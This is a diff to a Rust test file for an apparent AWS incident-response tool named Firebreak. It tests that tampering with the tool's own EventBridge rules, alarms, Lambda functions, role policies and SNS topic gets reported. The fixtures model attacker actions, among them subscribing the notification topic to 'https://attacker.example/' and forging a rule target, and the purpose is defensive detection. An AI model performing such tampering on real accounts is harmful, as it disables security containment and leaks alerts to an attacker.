@@ -227,7 +227,11 @@ fn ok_after_alarm_is_notified_as_resolved_only_when_asked() {
 
 /// A record of `name` as CloudTrail writes it, from the service that owns the call.
 fn cloudtrail(name: &str, identity: Value, request: Value) -> Value {
-    let source = super::DETECTED_EVENTS.iter().find(|(_, n)| *n == name).map_or("ec2.amazonaws.com", |(s, _)| *s);
+    let source = super::DETECTED_EVENTS
+        .iter()
+        .chain(super::SELF_CHANGE_EVENTS)
+        .find(|(_, n)| *n == name)
+        .map_or("ec2.amazonaws.com", |(s, _)| *s);
     edited(
         "cloudtrail/sg-open-ssh-to-world.json",
         &[
@@ -1298,4 +1302,91 @@ fn the_security_hub_write_back_is_planned_where_the_policy_says() {
     let ignored =
         edited("securityhub/asff-inspector-ec2-cve.json", &[("/detail/findings/0/RecordState", json!("ARCHIVED"))]);
     assert!(plan_with(ignored, &Policy::default()).actions.is_empty(), "an archived finding: nothing at all");
+}
+
+/// CT-SELF-002, the kill switch nobody sees: disabling or retargeting one of Firebreak's rules,
+/// subscribing to or unsubscribing from its topic, deleting its alarms, deleting a function or a role's
+/// policy stops containment without a sound. Reported whoever does it (an attempt the SCP denies too),
+/// unless the deployment does (its role, or CloudFormation itself); the same calls on anything that is
+/// not Firebreak's are left alone. The records take their shapes from the services' CloudTrail pages
+/// (the EventBridge User Guide's PutRule, the Lambda Developer Guide's DeleteFunction20150331).
+#[test]
+fn a_change_to_firebreaks_own_plumbing_by_anyone_but_the_deployment_is_reported() {
+    let developer = json!({"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/developer/alice",
+        "accountId": "123456789012", "sessionContext": {"sessionIssuer": {"type": "Role",
+        "arn": "arn:aws:iam::123456789012:role/developer", "userName": "developer", "accountId": "123456789012"}}});
+    let responder = "arn:aws:lambda:us-east-1:123456789012:function:firebreak-guardduty-responder";
+    let changes = [
+        ("DisableRule", json!({"name": "firebreak-guardduty-findings"}), "rule firebreak-guardduty-findings"),
+        (
+            "PutRule",
+            json!({"description": "", "name": "firebreak-risky-api-calls", "state": "ENABLED", "eventPattern": "{}", "scheduleExpression": ""}),
+            "rule firebreak-risky-api-calls",
+        ),
+        (
+            "RemoveTargets",
+            json!({"rule": "firebreak-guardduty-findings", "ids": ["GuardDutyResponderFindingsLambdaTarget"]}),
+            "firebreak-guardduty-findings",
+        ),
+        (
+            "PutTargets",
+            json!({"rule": "nightly-build", "targets": [{"id": "forged", "arn": responder, "input": "{\"detail-type\":\"GuardDuty Finding\"}"}]}),
+            "aims it at Firebreak's firebreak-guardduty-responder",
+        ),
+        (
+            "Subscribe",
+            json!({"topicArn": "arn:aws:sns:us-east-1:123456789012:firebreak-notifications", "protocol": "https", "endpoint": "https://attacker.example/"}),
+            "topic firebreak-notifications",
+        ),
+        (
+            "Unsubscribe",
+            json!({"subscriptionArn": "arn:aws:sns:us-east-1:123456789012:firebreak-notifications:8b6b2c1e-0f2e-4a8e-9f55-0a1b2c3d4e5f"}),
+            "topic firebreak-notifications",
+        ),
+        ("DeleteAlarms", json!({"alarmNames": ["team-cpu", "firebreak-failed-steps"]}), "alarm firebreak-failed-steps"),
+        (
+            "DeleteFunction20150331",
+            json!({"functionName": "firebreak-cloudtrail-responder"}),
+            "function firebreak-cloudtrail-responder",
+        ),
+        ("DeleteRolePolicy", json!({"roleName": "firebreak-member", "policyName": "respond"}), "role firebreak-member"),
+    ];
+    for (name, request, what) in &changes {
+        let plan = plan(cloudtrail(name, developer.clone(), request.clone()));
+        assert_eq!(plan.rule, Some("CT-SELF-002"), "{name}: {:?}", plan.reasons);
+        assert_eq!(plan.decision, Decision::Notify, "{name}");
+        assert_eq!(plan.severity, crate::incident::SeverityLabel::High, "{name}");
+        assert!(plan.reasons[0].contains(what), "{name}: {:?}", plan.reasons);
+    }
+    // Denied by the SCP: still the signal.
+    let mut attempt = cloudtrail("DisableRule", developer.clone(), json!({"name": "firebreak-guardduty-findings"}));
+    attempt["detail"]["errorCode"] = json!("AccessDenied");
+    let attempted = plan(attempt);
+    assert_eq!(attempted.rule, Some("CT-SELF-002"));
+    assert!(attempted.reasons[0].contains("attempted: AccessDenied"), "{:?}", attempted.reasons);
+    // Not Firebreak's: nothing to say.
+    for (name, request) in [
+        ("DisableRule", json!({"name": "nightly-build"})),
+        (
+            "Subscribe",
+            json!({"topicArn": "arn:aws:sns:us-east-1:123456789012:builds", "protocol": "email", "endpoint": "a@example.com"}),
+        ),
+        ("DeleteAlarms", json!({"alarmNames": ["team-cpu"]})),
+        ("DeleteFunction20150331", json!({"functionName": "basic-node-task"})),
+    ] {
+        assert_eq!(plan(cloudtrail(name, developer.clone(), request)).decision, Decision::Ignore, "{name}");
+    }
+    // The deployment: its role, or CloudFormation applying a stack.
+    let deployer = json!({"type": "AssumedRole", "arn": "arn:aws:sts::123456789012:assumed-role/platform-deployer/ci",
+        "accountId": "123456789012", "sessionContext": {"sessionIssuer": {"type": "Role",
+        "arn": "arn:aws:iam::123456789012:role/platform-deployer", "userName": "platform-deployer", "accountId": "123456789012"}}});
+    let policy = Policy {
+        deployment_role_arn: Some("arn:aws:iam::123456789012:role/platform-deployer".into()),
+        ..Policy::default()
+    };
+    let (name, request, _) = &changes[1];
+    assert_eq!(plan_with(cloudtrail(name, deployer, request.clone()), &policy).decision, Decision::Ignore);
+    let mut by_stack = cloudtrail(name, developer, request.clone());
+    by_stack["detail"]["sourceIPAddress"] = json!("cloudformation.amazonaws.com");
+    assert_eq!(plan(by_stack).decision, Decision::Ignore, "CloudFormation applying the stack");
 }
